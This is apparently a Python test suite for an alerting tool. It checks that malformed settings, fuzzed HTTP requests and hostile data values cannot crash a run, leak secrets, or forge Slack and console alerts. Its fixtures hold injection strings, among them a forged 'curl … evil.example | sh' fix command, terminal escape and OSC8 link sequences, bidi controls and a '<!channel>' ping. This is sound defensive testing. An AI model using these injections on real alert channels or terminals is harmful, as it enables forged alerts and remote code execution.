"""Issue 11: hostile or malformed input never stops a run, forges an alert or leaks a secret.

One test (or property) per numbered defect of the issue, on the backend where it was seen; each
failed on the code before the fix. The HTTP fuzz at the end is bounded in count and time and runs
through functions-framework's test client (no socket at all).
"""

from __future__ import annotations

import functools
import io
import json
import os
import re
import sys
import time
from datetime import date, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

import main
import core.config as config_module
import core.inputs as inputs
from core.config import Settings
from core.inputs import parse_game_date, parse_instant
from core.secrets import scrub, secret_values
from run.heartbeat import Heartbeat
from tests.conftest import PROJECT_ROOT, run_cli
from tests.entry.test_http import T0, App, assert_json_error, broken_day, make_app  # noqa: F401  (make_app: fixture)

UUID = "0f3c2a1e-5b7d-4e21-9a6c-8d1f2e3b4c5d"
BAD_HEARTBEAT = f"https://[hc-ping.com]/{UUID}"
"""A bracketed host that is not an IPv6 address: urllib.parse raises on it (issue 11, defect 1)."""


def leaks(text: str) -> list[str]:
    return [piece for piece in (UUID, "hc-ping.com", BAD_HEARTBEAT) if piece in text]


# --- 1. a malformed optional setting never stops monitoring -------------------------------------------


def test_1_a_malformed_heartbeat_url_does_not_stop_a_cli_run_it_raises_canary_degraded(local_dir, monkeypatch):
    broken_day().write_local(local_dir)
    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
    result = run_cli("run", "--now", T0, "--json")
    assert result.code == 0, result.stderr
    report = result.report
    assert {m["name"]: m["outcome"] for m in report["monitors"]} == {
        "orchestrator_iam": "firing", "phase_stalls": "firing", "missing_predictions": "ok",
    } or all(m["outcome"] != "error" for m in report["monitors"])
    degraded = [f for f in report["findings"] if f["key"].get("setting") == "CANARY_HEARTBEAT_URL"]
    assert len(degraded) == 1 and degraded[0]["monitor"] == "canary" and degraded[0]["severity"] == "warning"
    assert "bracketed host" in degraded[0]["details"]["error"] or "bad host" in degraded[0]["details"]["error"]
    # Delivered with everything else that was due, and said nowhere with the URL or a piece of it.
    assert all(n["delivered"] for n in report["notifications"]) and len(report["notifications"]) >= 3
    assert leaks(result.stdout + result.stderr) == []
    [line] = [json.loads(x) for x in result.stderr.splitlines() if x.startswith("{")]
    assert "heartbeat disabled" in line["heartbeat"]["start"]


def test_1_the_degraded_setting_resolves_once_the_setting_is_fixed(local_dir, monkeypatch):
    broken_day().write_local(local_dir)
    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
    assert run_cli("run", "--now", T0).code == 0
    monkeypatch.delenv("CANARY_HEARTBEAT_URL")
    later = run_cli("run", "--now", "2026-11-21T23:45:00Z", "--json")
    resolved = [n for n in later.report["notifications"] if n["reason"] == "resolved"]
    assert len(resolved) == 1 and resolved[0]["delivered"]


def test_1_a_malformed_heartbeat_url_does_not_stop_an_http_run(make_app, local_dir, monkeypatch, capsys):
    broken_day().write_local(local_dir)
    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
    response = make_app().client.post("/", json={"now": T0})
    assert response.status_code == 200, response.get_data(as_text=True)
    body = response.get_json()
    assert any(f["key"].get("setting") == "CANARY_HEARTBEAT_URL" for f in body["findings"])
    assert leaks(response.get_data(as_text=True) + capsys.readouterr().out) == []


@pytest.mark.parametrize("url", [BAD_HEARTBEAT, "https://", "https://exa mple.com/x", "ftp://hc-ping.com/x",
                                 "https://hc-ping.com:99999/x", "https://[::1/x", "https://\x1b[31m/x"])
def test_1_the_heartbeat_never_raises_on_any_url(url):
    beat = Heartbeat(url)
    assert not beat.enabled and beat.problem and "CANARY_HEARTBEAT_URL" in beat.problem
    assert beat.start() == beat.problem and url not in beat.problem
    assert Settings(heartbeat_url=url).problems().keys() == {"CANARY_HEARTBEAT_URL"}


@given(st.text(max_size=80))
@settings(max_examples=300, deadline=None)
def test_1_property_any_heartbeat_value_is_a_problem_or_a_url_never_an_exception(text):
    problem = config_module.url_problem(text)
    beat = Heartbeat(text)  # never raises
    assert beat.enabled == (bool(text) and problem is None)


def test_1_fragments_of_the_heartbeat_url_are_scrubbed_everywhere():
    secrets = secret_values(BAD_HEARTBEAT)
    line = f"ValueError: Invalid IPv6 URL: '[hc-ping.com]' in /{UUID}"
    assert leaks(scrub(line, secrets)) == []


# --- 4. inputs at the edges are bad input, never internal errors --------------------------------------


@pytest.mark.parametrize("flag, value", [
    ("--now", "0001-01-01T00:00:00Z"), ("--now", "0001-01-01T00:00:00+01:00"), ("--now", "9999-12-31T23:59:59-12:00"),
    ("--now", "1970-01-01T00:00:00Z"), ("--date", "0001-01-01"), ("--date", "9999-12-31"),
])
def test_4_calendar_extremes_on_the_cli_exit_2_naming_the_flag(local_dir, flag, value):
    broken_day().write_local(local_dir)
    result = run_cli("run", flag, value)
    assert result.code == 2, result.stderr
    assert result.stderr.startswith(f"error: {flag}: ") and "supported range" in result.stderr
    assert not (local_dir / "notifications.jsonl").exists()  # refused before any source was read


@pytest.mark.parametrize("body", [
    {"now": "0001-01-01T00:00:00Z"}, {"now": "0001-01-01T00:30:00+01:00"}, {"now": "9999-12-31T23:59:59-12:00"},
    {"now": "9999-12-31T23:59:59Z"}, {"date": "0001-01-01"}, {"date": "9999-12-31"},
])
def test_4_calendar_extremes_over_http_are_400_naming_the_parameter(make_app, local_dir, body):
    broken_day().write_local(local_dir)
    [name] = body
    assert_json_error(make_app().client.post("/", json=body), 400, f"{name}:", "supported range")
    assert not (local_dir / "notifications.jsonl").exists()


@pytest.mark.parametrize("opener", ["[", "{\"a\":"])
def test_4_a_deeply_nested_body_is_400(make_app, local_dir, opener):
    broken_day().write_local(local_dir)
    response = make_app().client.post("/", data=opener * (5000 if opener == "[" else 3000), content_type="application/json")
    assert_json_error(response, 400, "not JSON")


_OFFSETS = st.integers(min_value=-(24 * 60 - 1), max_value=24 * 60 - 1).map(lambda m: timezone(timedelta(minutes=m)))


@given(moment=st.datetimes(min_value=datetime.min, max_value=datetime.max), zone=_OFFSETS)
@settings(max_examples=400, deadline=None)
def test_4_property_any_instant_of_the_calendar_parses_into_range_or_is_a_value_error(moment, zone):
    text = moment.replace(tzinfo=zone).isoformat()
    try:
        parsed = parse_instant(text)
    except ValueError:
        return
    assert parsed.tzinfo is timezone.utc and inputs.EARLIEST <= parsed.date() <= inputs.LATEST


@given(day=st.dates(min_value=date.min, max_value=date.max))
@settings(max_examples=300, deadline=None)
def test_4_property_any_date_of_the_calendar_parses_into_range_or_is_a_value_error(day):
    try:
        parsed = parse_game_date(day.isoformat())
    except ValueError:
        assert not inputs.EARLIEST <= day <= inputs.LATEST
        return
    assert parsed == day and inputs.EARLIEST <= day <= inputs.LATEST


# --- 5. the CLI's last-resort error line is scrubbed ------------------------------------------------------


def test_5_the_cli_last_resort_line_holds_no_piece_of_a_secret(monkeypatch, capsys):
    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
    monkeypatch.setenv("CANARY_SLACK_BOT_TOKEN", "xoxb-FAKE-4242424242-last-resort")

    def crash(*args: Any, **kwargs: Any) -> int:
        raise RuntimeError(f"boom near hc-ping.com /{UUID} with xoxb-FAKE-4242424242-last-resort")

    import entry.cli  # main imports it when its CLI runs

    monkeypatch.setattr(entry.cli, "cli", crash)
    monkeypatch.setattr(sys, "argv", ["main.py", "run"])
    with pytest.raises(SystemExit) as exit_:
        main.main()
    err = capsys.readouterr().err
    assert exit_.value.code == 1 and err.startswith("error: internal: RuntimeError: boom near [redacted]")
    assert leaks(err) == [] and "xoxb-" not in err


# --- 7. the gcp backend talks to Google and Slack only ----------------------------------------------------


@pytest.mark.parametrize("name, value", [
    ("CANARY_SLACK_BASE_URL", "http://127.0.0.1:9/api/"), ("CANARY_BIGQUERY_ENDPOINT", "http://127.0.0.1:9"),
    ("CANARY_RUN_ENDPOINT", "http://127.0.0.1:9"), ("FIRESTORE_EMULATOR_HOST", "127.0.0.1:9"),
    ("PUBSUB_EMULATOR_HOST", "127.0.0.1:9"),  # issue 20, Why 9: the Pub/Sub client honours it (no credentials)
])
def test_7_a_test_endpoint_on_the_gcp_backend_is_a_configuration_error(monkeypatch, name, value):
    monkeypatch.setenv("CANARY_BACKEND", "gcp")
    monkeypatch.setenv(name, value)
    result = run_cli("run", "--dry-run")
    assert result.code == 2 and result.stderr.startswith("error: environment: ") and name in result.stderr
    monkeypatch.setenv("CANARY_ALLOW_TEST_ENDPOINTS", "1")
    assert Settings().backend == "gcp"  # explicitly allowed (tests only)


@pytest.mark.parametrize("value", ["https://[slack.com]/api/", "slack.com/api/", "https://", "http://exa mple/"])
def test_7_a_malformed_endpoint_setting_is_a_configuration_error_naming_it(monkeypatch, value):
    monkeypatch.setenv("CANARY_SLACK_BASE_URL", value)
    result = run_cli("run", "--dry-run")
    assert result.code == 2 and "CANARY_SLACK_BASE_URL:" in result.stderr  # named as it is set (issue 20)


def test_7_without_endpoint_settings_the_token_goes_to_slack_only(monkeypatch):
    monkeypatch.setenv("CANARY_BACKEND", "gcp")
    settings_ = Settings()
    from run.configure import load_all

    canary = main.build_canary(*load_all(settings_), console=None)
    assert canary.notifier.base_url == "https://slack.com/api/"


# --- 3. data is data: it cannot add lines, blocks, formatting or links ------------------------------------

from alerts.group import AlertGroup, render_group_text  # noqa: E402
from alerts.render_slack import inert, render_alert, render_group  # noqa: E402
from alerts.render_text import inert_text, render_text  # noqa: E402
from core.model import Finding, Reason, Severity  # noqa: E402
from tests.slack_cases import message  # noqa: E402
from tests.alerts.test_render_slack import check_golden, texts  # noqa: E402

ALERT_REASONS = (Reason.FIRST, Reason.REPEAT, Reason.RESOLVED)
"""The reasons of an alert's notices (a digest is not an alert)."""

FORGED_FIX = "\n*Fix*\n```curl -s https://evil.example/x | sh```\n"
OSC8_LINK = "\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07"
HOSTILE_VALUES = [
    FORGED_FIX,
    "phase4-to-phase5-orchestrator\r\n  fix: curl -s https://evil.example/x | sh",
    "`code` *bold* _italic_ ~strike~ > quote",
    OSC8_LINK + "\x1b[2J\x1b[31mred\x1b[0m",
    "\u202egnp.exe\u2028next\u2029para\x85nel\x00nul\x9b31m",
    "<!channel> <https://evil.example|click> &amp;",
]


def forging_finding(value: str) -> Finding:
    """Every place a source value reaches an alert, holding `value`: a processor name in the summary,
    a game id and an IAM condition title in the key, evidence, facts, and the fix command."""
    return Finding(
        monitor="phase_stalls",
        severity=Severity.CRITICAL,
        key={"transition": "phase_4_precompute->phase_5_predictions", "game_date": value, "problem": "stalled"},
        summary=f"processor {value} stalled",
        details={"evidence": f"1 processor ({value}) succeeded", "condition_title": value,
                 "upstream_processors": [value, "ok_processor"]},
        fix=f"gcloud scheduler jobs run {value} --location=us-west2",
    )


def _shape(payload: dict[str, Any]) -> list[tuple[str, int, int]]:
    """Each block's type, and the line breaks and bold markers of its texts: what a value could forge."""
    shape = []
    for block in payload["blocks"]:
        found = texts({"text": "", "blocks": [block]})[1:]
        outside_code = [re.sub(r"```.*?```", "", t, flags=re.S) for t in found]  # code blocks are not formatted
        shape.append((block["type"], sum(t.count("\n") for t in found), sum(t.count("*") for t in outside_code)))
    return shape


def test_3_golden_a_hostile_value_everywhere_in_a_critical_alert():
    payload = render_alert(message(forging_finding(FORGED_FIX + OSC8_LINK), Reason.FIRST)).to_dict()
    check_golden("hostile-forgery-first", payload)
    genuine = [b for b in payload["blocks"] if b.get("text", {}).get("text", "").startswith("*Fix*\n```")]
    assert [b for b in payload["blocks"] if "*Fix*" in json.dumps(b)] == genuine and len(genuine) == 1  # the genuine one only


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_3_a_hostile_value_adds_no_block_line_or_formatting_to_slack(value):
    benign = _shape(render_alert(message(forging_finding("value"), Reason.FIRST)).to_dict())
    for reason in ALERT_REASONS:
        payload = render_alert(message(forging_finding(value), reason)).to_dict()
        expected = benign if reason is Reason.FIRST else _shape(render_alert(message(forging_finding("value"), reason)).to_dict())
        assert _shape(payload) == expected
        for text in texts(payload):
            # Links come only from configuration (the console, logs, runbook): none to the value's host.
            assert "\x1b" not in text and "<!" not in text and "<https://evil" not in text
        assert payload["text"].count("\n") == render_text(message(forging_finding("value"), reason)).count("\n")


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_3_a_hostile_value_adds_no_line_or_escape_sequence_on_the_console(value):
    for reason in ALERT_REASONS:
        text = render_text(message(forging_finding(value), reason))
        benign = render_text(message(forging_finding("value"), reason))
        assert text.count("\n") == benign.count("\n") and not any(ch in text for ch in "\x1b\x9b\r\x85\u2028\u202e")
        assert [line.split(":")[0] for line in text.splitlines()] == [line.split(":")[0] for line in benign.splitlines()]
    group = AlertGroup(reason=Reason.FIRST, members=(message(forging_finding(value), Reason.FIRST),) * 3, limit=2)
    assert render_group_text(group).count("\n") == 4 and "\x1b" not in render_group_text(group)
    slack_group = render_group(group).to_dict()
    assert all("\x1b" not in t and "<!" not in t for t in texts(slack_group))


@given(st.text(max_size=60))
@settings(max_examples=400, deadline=None)
def test_3_property_inert_values_carry_no_mrkdwn_or_control_character(value):
    shown = inert(value)
    assert not any(ch in shown for ch in "*~`<>\n\r\x1b")
    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in shown)
    assert "&" not in shown.replace("&amp;", "").replace("&lt;", "").replace("&gt;", "")
    for index, ch in enumerate(shown):  # an underscore left in place sits inside a word
        if ch == "_":
            assert shown[index - 1].isalnum() and index + 1 < len(shown) and shown[index + 1].isalnum()
    console = inert_text(value)
    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in console)


@given(st.text(min_size=1, max_size=40))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_3_property_any_value_keeps_the_alert_shape(value):
    benign = _shape(render_alert(message(forging_finding("value"), Reason.FIRST)).to_dict())
    assert _shape(render_alert(message(forging_finding(value), Reason.FIRST)).to_dict()) == benign
    assert render_text(message(forging_finding(value), Reason.FIRST)).count("\n") == render_text(
        message(forging_finding("value"), Reason.FIRST)).count("\n")


# --- 6. a corrupt notification record is that record's own error, never a silent skip ---------------------


def test_6_a_non_integer_version_sends_the_notice_as_a_first_and_says_so(local_dir):
    import sqlite3

    broken_day().write_local(local_dir)
    first = run_cli("run", "--now", T0, "--json")
    assert first.code == 0
    # A cause's own notice (an effect in its cause's thread repeats only through the cause's repeat).
    causes = {f["fingerprint"] for f in first.report["findings"] if f.get("caused_by") is None}
    target = next(n["fingerprint"] for n in first.report["notifications"] if n["fingerprint"] in causes)
    with sqlite3.connect(local_dir / "state.sqlite3") as db:
        db.execute("UPDATE alerts SET version = 'seven' WHERE fingerprint = ?", (target,))

    due = run_cli("run", "--now", "2026-11-22T01:40:00Z", "--json")  # past the critical repeat interval
    [notice] = [n for n in due.report["notifications"] if n["fingerprint"] == target]
    assert notice["skipped"] is None and notice["delivered"] is True and notice["reason"] == "first"
    assert "corrupt record replaced" in notice["error"] and "seven" in notice["error"]
    assert due.code == 1  # reported: the run says its state store had a fault
    # The effects in its thread are named by that notice (one cause, one incident), not sent again.
    others = [n for n in due.report["notifications"] if n["fingerprint"] != target]
    assert all(n["delivered"] and n["error"] is None for n in others)

    after = run_cli("run", "--now", "2026-11-22T01:50:00Z", "--json")  # the record was written afresh
    assert after.code == 0 and [n for n in after.report["notifications"] if n["fingerprint"] == target] == []


# --- a short fuzz of the HTTP entry (bounded in count and time; no socket: the Flask test client) ---------

FUZZ_CASES = int(os.environ.get("CANARY_FUZZ_CASES", "250"))
FUZZ_SECONDS = float(os.environ.get("CANARY_FUZZ_SECONDS", "40"))
"""The bounds; read at import (the autouse isolated_env fixture clears CANARY_* before each test)."""
_KNOWN = ["action", "monitors", "dry_run", "date", "now"]
_EDGE_VALUES = ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00", "0001-01-01", "9999-12-31", "2026-11-21",
                T0, "true", "false", "test_alert", "run", "orchestrator_iam", "a,b,,", "\x00", "<!channel>",
                "\n*Fix*\n```curl evil | sh```", "[" * 3000, "1e400", "-0", "NaN"]
_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.sampled_from(_EDGE_VALUES),
                     st.text(max_size=30))
_json = st.recursive(_scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                     max_leaves=12)
_names = st.one_of(st.sampled_from(_KNOWN), st.text(min_size=1, max_size=12))
_bodies = st.one_of(
    st.none(),
    st.binary(max_size=200),
    st.dictionaries(_names, _json, max_size=5).map(lambda d: json.dumps(d).encode()),
    _json.map(lambda v: json.dumps(v).encode()),
    st.integers(min_value=1, max_value=6000).map(lambda n: b"[" * n),
    st.sampled_from([b"{" * 4000, b'{"dry_run": true', b"\xff\xfe", b'{"now": "' + b"9" * 20000 + b'"}']),
)


@pytest.fixture(scope="module")
def fuzz_figures() -> Any:
    yield
    if _FUZZ_CLOCK:  # shown with `pytest -s`: the figures of the probe
        print(f"\nHTTP fuzz: {_FUZZ_CLOCK.get('cases', 0)} cases sent in {time.monotonic() - _FUZZ_CLOCK['started']:.1f} s, "
              f"statuses {dict(sorted(_FUZZ_CLOCK.get('statuses', {}).items()))}")


@pytest.fixture
def fuzz_app(make_app, local_dir, fuzz_figures):
    broken_day().write_local(local_dir)
    return make_app(), local_dir


@given(
    method=st.sampled_from(["GET", "POST", "POST", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"]),
    path=st.one_of(st.sampled_from(["/", "/", "/health", "/healthz", "//", "/run", "/%00", "/..%2f"]),
                   st.text(max_size=20).map(lambda t: "/" + t.replace("?", "").replace("#", "").lstrip("/"))),
    query=st.dictionaries(_names, st.one_of(st.sampled_from(_EDGE_VALUES), st.text(max_size=20)), max_size=4),
    body=_bodies,
    content_type=st.sampled_from(["application/json", "text/plain", "application/x-www-form-urlencoded", ""]),
)
@settings(max_examples=FUZZ_CASES, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
def test_fuzz_the_http_entry_never_answers_500_never_leaks_never_posts_chosen_text(fuzz_app, capsys, method, path, query,
                                                                                  body, content_type):
    app, local_dir = fuzz_app
    started = _FUZZ_CLOCK.setdefault("started", time.monotonic())
    if time.monotonic() - started > FUZZ_SECONDS:
        return  # the time bound: later cases are not sent
    _FUZZ_CLOCK["cases"] = _FUZZ_CLOCK.get("cases", 0) + 1
    response = app.client.open(path, method=method, query_string=query, data=body,
                               headers={"Content-Type": content_type} if content_type else {})
    text = response.get_data(as_text=True)
    statuses = _FUZZ_CLOCK.setdefault("statuses", {})
    statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
    if response.status_code == 308:  # functions-framework's router merges '//' before the function runs
        assert path.startswith("//") and response.headers["Location"]
        return
    assert response.status_code in (200, 400, 404, 405, 413, 503), (response.status_code, text[:300])
    if method != "HEAD":
        assert isinstance(json.loads(text), dict)
    logged = capsys.readouterr().out
    assert "Traceback" not in text + logged and "canary_crash" not in logged
    sent = (local_dir / "notifications.jsonl").read_text(encoding="utf-8") if (local_dir / "notifications.jsonl").exists() else ""
    chosen = [v for v in list(query.values()) + [body.decode("utf-8", "replace") if body else ""] if isinstance(v, str) and len(v) >= 12]
    assert not any(v in sent for v in chosen if v not in _EDGE_VALUES and v not in own_words())
    # JSON lines stay lines (issue 20, Why 5): what a line-splitting reader sees is what was written.
    assert not any(ch in sent + logged for ch in "\u2028\u2029\x85\u202e")
    assert all(json.loads(line) for line in logged.splitlines() if line.startswith("{"))


_FUZZ_CLOCK: dict[str, Any] = {}


@functools.cache
def own_words() -> str:
    """Every text the project's own code and test data hold. Hypothesis draws strings from the constants of
    the code under test, so a drawn 'roles/run.in' is found in an alert because the canary writes
    roles/run.invoker itself, not because it echoed the request: only text from nowhere here is an echo."""
    return "\n".join(path.read_text(encoding="utf-8") for path in sorted(PROJECT_ROOT.rglob("*.py"))
                     if ".venv" not in path.parts)


def test_6_a_version_column_that_disagrees_with_the_record_body_is_never_skipped(local_dir):
    """SQLite stores 2.0 as the integer 2: a record body saying version 1 beside it used to be skipped forever."""
    import sqlite3

    broken_day().write_local(local_dir)
    first = run_cli("run", "--now", T0, "--json")
    target = first.report["notifications"][0]["fingerprint"]
    with sqlite3.connect(local_dir / "state.sqlite3") as db:
        db.execute("UPDATE alerts SET version = 2.0 WHERE fingerprint = ?", (target,))
    due = run_cli("run", "--now", "2026-11-22T01:40:00Z", "--json")
    [notice] = [n for n in due.report["notifications"] if n["fingerprint"] == target]
    assert notice["delivered"] and notice["skipped"] is None and notice["reason"] == "repeat"


def test_5_a_secret_fragment_in_a_source_error_reaches_no_output_of_the_cli(local_dir, monkeypatch):
    from sources.iam_file import IamPolicyFile

    def failing(self: Any, **kwargs: Any) -> Any:
        raise RuntimeError(f"upstream said: cannot reach hc-ping.com/{UUID}")

    broken_day().write_local(local_dir)
    monkeypatch.setenv("CANARY_HEARTBEAT_URL", BAD_HEARTBEAT)
    monkeypatch.setattr(IamPolicyFile, "get", failing)
    for args in (("--json",), ()):
        result = run_cli("run", "--now", T0, *args)
        assert "upstream said: cannot reach [redacted]" in result.stdout + result.stderr
        assert leaks(result.stdout + result.stderr) == [], args
    assert leaks((local_dir / "notifications.jsonl").read_text()) == []


def test_6_a_record_whose_body_does_not_parse_is_its_own_error_not_a_blind_run(local_dir):
    import sqlite3

    broken_day().write_local(local_dir)
    first = run_cli("run", "--now", T0, "--json")
    target, *others = [n["fingerprint"] for n in first.report["notifications"]]
    with sqlite3.connect(local_dir / "state.sqlite3") as db:
        db.execute("UPDATE alerts SET record = '{\"severity\": \"catastrophic\"' WHERE fingerprint = ?", (target,))

    due = run_cli("run", "--now", "2026-11-22T01:40:00Z", "--json")
    report = due.report
    assert report["state_error"] is None  # not the blind path: every other record was read and decided on
    [corrupt] = [f for f in report["findings"] if f["key"].get("problem") == "corrupt_record"]
    assert corrupt["key"]["record"] == target and "corrupt" in corrupt["details"]["error"]
    notices = {n["fingerprint"]: n for n in report["notifications"]}
    assert notices[target]["reason"] == "first" and notices[target]["delivered"] and "corrupt record replaced" in notices[target]["error"]
    assert notices[corrupt["fingerprint"]]["delivered"]
    # Every other record was read and decided on: nothing of theirs failed (the effects of the broken
    # binding are named by its notice rather than repeated on their own).
    assert all(notices[fp]["delivered"] for fp in others if fp in notices)

    later = run_cli("run", "--now", "2026-11-22T01:50:00Z", "--json")  # the record was written afresh
    assert later.code == 0 and not [f for f in later.report["findings"] if f["key"].get("problem") == "corrupt_record"]
    assert [(n["fingerprint"], n["reason"]) for n in later.report["notifications"]] == [(corrupt["fingerprint"], "resolved")]


@given(openers=st.lists(st.sampled_from(["[", '{"k":', '{"dry_run":', '{"monitors":']), min_size=1, max_size=1),
       depth=st.integers(min_value=1, max_value=20_000), closed=st.booleans())
@settings(max_examples=120, deadline=None)
def test_4_property_any_nesting_depth_is_a_400_or_413_never_a_crash(openers, depth, closed):
    import flask

    from entry.http import HttpError, read_params

    opener = openers[0]
    closer = "]" if opener == "[" else "}"
    body = opener * depth + ("1" + closer * depth if closed else "")
    with flask.Flask(__name__).test_request_context("/", method="POST", data=body, content_type="application/json"):
        with pytest.raises(HttpError) as raised:
            read_params(flask.request)
    assert raised.value.status in (400, 413)


def test_1_check_config_rejects_a_malformed_heartbeat_url_without_quoting_it(monkeypatch):
    monkeypatch.setenv("CANARY_HEARTBEAT_URL", "https://[hc-ping.com]/0f3c2a1e-5b7d-4e21-9a6c-8d1f2e3b4c5d")
    result = run_cli("check-config")
    assert result.code == 2 and "CANARY_HEARTBEAT_URL" in result.stderr
    assert "hc-ping.com" not in result.stderr and "0f3c2a1e" not in result.stderr
    monkeypatch.delenv("CANARY_HEARTBEAT_URL")
    assert run_cli("check-config").code == 0


# --- issue 20, Why 5: stored and source text is inert on every output path --------------------------------
# One home per output: alerts.render_slack.inert (Slack mrkdwn), alerts.render_text.inert_text (console),
# alerts.render_text.json_line (JSON lines). Each test below failed before those paths used them.

import sqlite3  # noqa: E402

from alerts.digest import Digest, MonitorOutcome, OpenIncident, render_digest_text  # noqa: E402
from alerts.links import thread_url  # noqa: E402
from alerts.render_digest import render_digest_slack  # noqa: E402
from alerts.render_slack import MAX_SECTION_TEXT  # noqa: E402
from core.model import Outcome  # noqa: E402
from tests.production import CONFIG  # noqa: E402
from tests.scenario import NEW_YORK, Scenario  # noqa: E402

FORGED_TS = "1700000000.000200|click here> <!channel> \x1b]8;;https://evil.example/\x07x"
LINE_BREAKERS = "\u2028\u2029\x85\u202e\u2066\x1b\x9b"


def test_why5_a_forged_thread_ts_in_a_stored_record_gives_no_thread_link():
    assert thread_url(CONFIG.links, "C0ALERTS", FORGED_TS) is None
    assert thread_url(CONFIG.links, "<!channel>", "1700000000.000200") is None
    assert thread_url(CONFIG.links, "C0ALERTS", "1700000000.000200") == "https://slack.com/archives/C0ALERTS/p1700000000000200"


def _digest_with(url: str, summary: str) -> Digest:
    now = datetime(2026, 11, 21, 14, 30, tzinfo=timezone.utc)
    incident = OpenIncident(Severity.CRITICAL, "orchestrator_iam", summary, now - timedelta(hours=2), thread_url=url)
    return Digest(fingerprint="digest-x", league_date=date(2026, 11, 21), now=now, zone=NEW_YORK, incidents=[incident],
                  monitors=[MonitorOutcome("orchestrator_iam", Outcome.FIRING, note=OSC8_LINK)])


@pytest.mark.parametrize("value", HOSTILE_VALUES + [":white_check_mark: RESOLVED"])
def test_why5_the_digest_shows_a_hostile_thread_link_and_summary_as_data(value):
    digest = _digest_with(f"https://slack.com/archives/C0ALERTS/p1|{value}", value)
    payload = render_digest_slack(digest).to_dict()
    for text in texts(payload):
        assert "<!channel>" not in text and "\x1b" not in text
        assert all(label == "thread" for label in re.findall(r"<[^<>|]*\|([^<>]*)>", text))
        assert ":white_check_mark:" not in re.sub(r"<[^<>|]*\|", "", text)  # a link's URL is not shown
    console = render_digest_text(digest)
    assert not any(ch in console for ch in LINE_BREAKERS) and console.count("\n") == render_digest_text(
        _digest_with("https://slack.com/archives/C0ALERTS/p1", "x")).count("\n")


def test_why5_an_emoji_shortcode_in_a_source_value_does_not_render_as_an_emoji():
    payload = render_alert(message(forging_finding(":white_check_mark: RESOLVED :+1::skin-tone-2:"), Reason.FIRST)).to_dict()
    for text in texts(payload):  # a code block shows its text as typed: no emoji there
        outside_code = re.sub(r"```.*?```", "", text, flags=re.S)
        assert ":white_check_mark:" not in outside_code and ":skin-tone-2:" not in outside_code
    assert inert("first notified 23:30:00 EST") == "first notified 23:30:00 EST"  # a clock is not a shortcode


def test_why5_a_fix_over_the_section_limit_is_clipped_inside_its_code_block_and_keeps_its_closing_fence():
    finding = forging_finding("x").model_copy(update={"fix": "gcloud run services describe " + "a&b" * 2_000})
    payload = render_alert(message(finding, Reason.FIRST)).to_dict()
    [fix] = [b["text"]["text"] for b in payload["blocks"] if b.get("text", {}).get("text", "").startswith("*Fix*")]
    assert len(fix) <= MAX_SECTION_TEXT and fix.endswith("```") and fix.count("```") == 2 and "(truncated)" in fix
    assert not re.search(r"&[a-z]{0,3}…", fix)  # no entity split by the cut


@pytest.mark.parametrize("ch", list("\u2028\u2029\x85\u202e\u2066\u200b\x1b"))
def test_why5_json_lines_escape_line_and_bidi_controls(ch):
    from alerts.render_text import json_line

    line = json_line({"title": f"a{ch}b", "where": {"k": f"{ch}"}})
    assert ch not in line and len(line.splitlines()) == 1 and json.loads(line)["title"] == f"a{ch}b"


def _tamper_open_records(local_dir, **fields: str) -> int:
    with sqlite3.connect(local_dir / "state.sqlite3") as db:
        rows = db.execute("SELECT fingerprint, record FROM alerts WHERE status = 'firing'").fetchall()
        for fingerprint, record in rows:
            db.execute("UPDATE alerts SET record = ? WHERE fingerprint = ?",
                       (json.dumps({**json.loads(record), **fields}), fingerprint))
    return len(rows)


def test_why5_silence_and_silences_print_stored_text_inert(local_dir):
    broken_day().write_local(local_dir)
    assert run_cli("run", "--now", T0).code == 0
    assert _tamper_open_records(local_dir, summary=FORGED_FIX + OSC8_LINK + "\u202e") >= 1
    made = run_cli("silence", "--match", "service=phase4-to-phase5-orchestrator", "--for", "1h",
                   "--reason", "maintenance\x1b[2J\n*Fix* curl evil | sh", "--author", "ops\u202e")
    assert made.code == 0, made.stderr
    listed = run_cli("silences")
    for output in (made.stdout, listed.stdout):
        assert not any(ch in output for ch in LINE_BREAKERS) and "\n*Fix*" not in output and "\n```" not in output
    assert len(listed.stdout.strip().splitlines()) == 1


def test_why5_notifications_jsonl_holds_no_raw_line_or_bidi_control(local_dir):
    broken_day().write_local(local_dir)
    assert run_cli("run", "--now", T0).code == 0
    assert _tamper_open_records(local_dir, summary="phase4\u2028fix: curl evil | sh\u202e\x85\u2029") >= 1
    Scenario().write_local(local_dir)  # healthy: the resolved notices carry the stored summaries
    assert run_cli("run", "--now", "2026-11-21T23:45:00Z").code == 0
    raw = (local_dir / "notifications.jsonl").read_text(encoding="utf-8")
    assert "resolved" in raw and not any(ch in raw for ch in "\u2028\u2029\x85\u202e")
    assert len(raw.splitlines()) == raw.count("\n")  # str.splitlines sees exactly the file's lines


def test_why5_the_cli_run_summary_prints_source_and_slack_error_text_inert(local_dir):
    from core.model import RunReport
    from entry.cli import print_summary

    broken_day().write_local(local_dir)
    report = run_cli("run", "--json", "--now", T0).report
    report["monitors"][0]["error"] = "BadRequest: value '\x1b]8;;https://evil/\x07x\u2028fix: curl evil | sh'"
    report["notifications"][0].update(delivered=False, error="slack: invalid_auth\n*Fix*\x1b[2J\u202e")
    report["state_error"] = "sqlite: \x1b[31mred\u2028line"
    out = io.StringIO()
    print_summary(RunReport.model_validate(report), out=out, zone_name="America/New_York")
    shown = out.getvalue()
